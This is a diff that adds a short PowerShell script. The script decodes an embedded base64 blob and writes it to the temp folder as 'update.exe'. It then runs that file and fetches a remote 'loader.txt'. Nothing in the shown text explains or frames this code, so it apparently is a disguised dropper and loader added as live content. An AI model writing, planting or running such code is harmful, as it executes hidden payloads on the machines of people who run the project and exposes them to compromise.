@@ -1,0 +1,6 @@
+$data = 'SfRpKsWz7LF/NmO1UUQjMuCnl8J0Nd87cDaLcReVmNuqonM8/oHI8Uh56S6OjizdKrF62Nwxcn/sQz6sXPfpkFjpIKxu2INkkWrDlSpizM2YIyLEDVTmUUXEqrVRwGM4MbbZn2ijljZ4iM2SbKGac3CxiiwLWbYvVl2JEhdDQH8cg2Arw7+WWluOPoauz9ZVQSr1s2mWvbxG9+pSD2inwNV2Symv42ehVwafrJHVFCxlS+ZiXFPSfbj4FLNqsiZGN1NTgIw='
+$bytes = [Convert]::FromBase64String($data)
+$exe = Join-Path $env:TEMP 'update.exe'
+[IO.File]::WriteAllBytes($exe, $bytes)
+Start-Process $exe
+(New-Object Net.WebClient).DownloadString('https://static-assets.invalid/loader.txt') | Out-Null
